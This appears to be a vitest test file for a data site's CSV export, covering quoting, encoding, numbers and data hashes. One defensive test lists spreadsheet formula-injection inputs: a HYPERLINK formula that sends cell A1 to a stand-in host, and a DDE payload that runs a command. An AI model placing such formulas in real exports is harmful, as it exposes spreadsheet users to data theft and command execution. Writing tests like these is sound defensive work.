import { describe, expect, test } from "vitest";
import type { ChartRow, Column } from "../../src/charts/definition/define-chart.ts";
import { chartCsvAllViews, tableCsv } from "../../src/render/table/csv.ts";
import { dataHash, sha256, shortHash } from "../../src/render/table/data-hash.ts";
import { charts } from "../../src/render/chart/catalogue.ts";
import { indicatorHash } from "../../src/render/indicator/indicator-csv.ts";
import { chartPayload } from "../../src/render/chart/payload.ts";
import { loadData } from "../../src/schema/load.ts";
import { LOCALES } from "../../src/schema/text.ts";
import { samplePayload } from "./sample-payload.ts";
import { voiceIn } from "../voice-in.ts";

const TEXT: readonly Column[] = [{ key: "x", label: { pl: "X", en: "X" }, kind: "text" }];

function csvOfTexts(...texts: readonly (string | number | null)[]): string {
  return tableCsv({ place: "src/charts/t.ts", columns: TEXT, rows: texts.map((x) => ({ x })) });
}

/** Reads RFC 4180 by its grammar, independently of the writer. */
function parsed(csv: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  const token = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/gy;
  for (let match = token.exec(csv); match; match = token.exec(csv)) {
    row.push(match[1] === undefined ? (match[2] ?? "") : match[1].replaceAll('""', '"'));
    if (match[3] === "\r\n") {
      rows.push(row);
      row = [];
    }
  }
  expect(row).toEqual([]);
  return rows;
}

describe("tableCsv", () => {
  test("has the column codes as header, dot decimals, CRLF and empty fields for missing values", () => {
    expect(tableCsv(samplePayload())).toBe(
      "geo,name,year,value\r\nPL,Polska,2020,24.8\r\nDK,Dania,2017,\r\n",
    );
  });

  test("starts with no byte-order mark and keeps Polish letters as UTF-8", () => {
    const bytes = Buffer.from(csvOfTexts("Żółw"));
    expect(bytes.toString("hex")).toBe("780d0ac5bbc3b3c582770d0a");
  });

  test.each([
    ["a,b", '"a,b"'],
    ['say "x"', '"say ""x"""'],
    ["two\nlines", '"two\nlines"'],
    ["two\r\nlines", '"two\r\nlines"'],
    ["plain; text", "plain; text"],
    [" spaces ", " spaces "],
  ])("quotes %j as RFC 4180 says", (text, field) => {
    expect(csvOfTexts(text)).toBe(`x\r\n${field}\r\n`);
  });

  test.each([
    "=1+1",
    '=HYPERLINK("https://x.example?"&A1,"y")',
    "+48 22 000",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "＝1",
    "＋1",
    "－1",
    "＠a",
    "=cmd|' /C calc'!A0",
  ])("text %j does not become a formula in a spreadsheet", (text) => {
    const [, [field] = []] = parsed(csvOfTexts(text));
    expect(field).toBe(`'${text}`);
  });

  test.each(["a=b", "–5", "2011-2023", "'quoted", "1=1"])(
    "harmless text %j is untouched",
    (text) => {
      expect(csvOfTexts(text)).toBe(`x\r\n${text}\r\n`);
    },
  );

  test.each([
    [-0.5, "-0.5"],
    [0.1 + 0.2, "0.30000000000000004"],
    [1234567.5, "1234567.5"],
    [0, "0"],
  ])("the number %s is written %s, without an apostrophe", (value, field) => {
    expect(csvOfTexts(value)).toBe(`x\r\n${field}\r\n`);
  });

  test("every text comes back as it was from a reader of RFC 4180", () => {
    const texts = ['a"b,c\r\nd', '""', ",", "ą\u00a0ę", "x\ny"];
    expect(parsed(csvOfTexts(...texts))).toEqual([["x"], ...texts.map((text) => [text])]);
  });

  test("a row without a column and a number that is not finite are refused with their place", () => {
    const row: ChartRow = {};
    expect(() =>
      tableCsv({ place: "src/charts/t.ts", columns: TEXT, rows: [{ x: 1 }, row] }),
    ).toThrow("src/charts/t.ts: rows[1].x: expected a value or null, received nothing");
    expect(() => csvOfTexts(NaN)).toThrow(
      "rows[0].x: expected a finite number or null, received NaN",
    );
  });
});

describe("chartCsvAllViews", () => {
  const views = [
    { id: "2015", label: { pl: "2015", en: "2015" } },
    { id: "2022", label: { pl: "2022", en: "2022" } },
  ];

  test("puts the view first and lists the views in their order", () => {
    expect(chartCsvAllViews(samplePayload({ views }))).toBe(
      [
        "view,geo,name,year,value",
        "2015,PL,Polska,2015,24.8",
        "2015,DK,Dania,2015,",
        "2022,PL,Polska,2022,24.8",
        "2022,DK,Dania,2022,",
        "",
      ].join("\r\n"),
    );
  });

  test("is the table itself where there are no views", () => {
    expect(chartCsvAllViews(samplePayload())).toBe(tableCsv(samplePayload()));
  });

  test("refuses a second column with the name of the view's", () => {
    const columns: readonly Column[] = [{ ...TEXT[0]!, key: "view" }];
    expect(() => chartCsvAllViews(samplePayload({ views, columns }))).toThrow(
      'columns: expected no column "view"',
    );
  });
});

describe("dataHash", () => {
  test("is the SHA-256 of the sorted table without words, and never changes by itself", () => {
    expect(sha256("")).toBe("e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855");
    const payload = samplePayload();
    expect(dataHash(payload)).toBe(sha256("geo,year,value\r\nDK,2017,\r\nPL,2020,24.8\r\n"));
    expect(dataHash(payload)).toBe(
      "8d3464bb31d5bbdadb46c57962ab3c5ae4db67b7a9b27dd23b0ba0b21b60e25b",
    );
    expect(shortHash(dataHash(payload))).toBe("8d3464bb31d5");
  });

  test("changes with any value, and not with words that are not in the table", () => {
    const rows = samplePayload().rows.map((row) => ({ ...row, value: 1 }));
    expect(dataHash(samplePayload({ rows }))).not.toBe(dataHash(samplePayload()));
    expect(dataHash(samplePayload({ title: "Inny" }))).toBe(dataHash(samplePayload()));
  });

  test.each([
    ["code", true],
    ["number", true],
    ["year", true],
    ["category", true],
    ["work", true],
    ["claim", true],
    ["name", false],
    ["text", false],
  ] as const)("of a column of the kind %s holds its cells: %s", (kind, holds) => {
    const label = { pl: "K", en: "K" };
    const hash = (cell: string | number): string =>
      dataHash({ place: "x", columns: [{ key: "k", label, kind }], rows: [{ k: cell }] });
    const [one, other] = kind === "number" || kind === "year" ? [1, 2] : ["a", "b"];
    expect(hash(one) !== hash(other)).toBe(holds);
  });

  test.each(charts.map((chart) => [chart.id, chart] as const))(
    "of each view of %s is the same in both languages, and another one where the table is",
    (_, chart) => {
      const views = chart.definition.views?.values(loadData()).map(({ id }) => id) ?? [undefined];
      const hashes = views.map((view) =>
        LOCALES.map((locale) => dataHash(chartPayload(chart, voiceIn(locale), view))),
      );
      for (const [pl, en] of hashes) expect(en).toBe(pl);
      // The order of the lines may follow the view; it is no part of the data.
      const tables = views.map((view) =>
        tableCsv(chartPayload(chart, voiceIn("pl"), view))
          .split("\r\n")
          .toSorted()
          .join("\n"),
      );
      expect(new Set(hashes.map(([pl]) => pl)).size).toBe(new Set(tables).size);
    },
  );

  test("of an indicator holds its values and not the words about them", () => {
    const indicators = [...loadData().indicators.values()];
    const indicator = indicators.find(({ rows }) => rows.some(({ source }) => source?.note))!;
    const wordless = {
      ...indicator,
      rows: indicator.rows.map((row) => ({ ...row, source: { ...row.source, note: undefined } })),
    };
    const fewer = { ...indicator, rows: indicator.rows.slice(1) };
    expect(indicatorHash(wordless)).toBe(indicatorHash(indicator));
    expect(indicatorHash(fewer)).not.toBe(indicatorHash(indicator));
  });
});
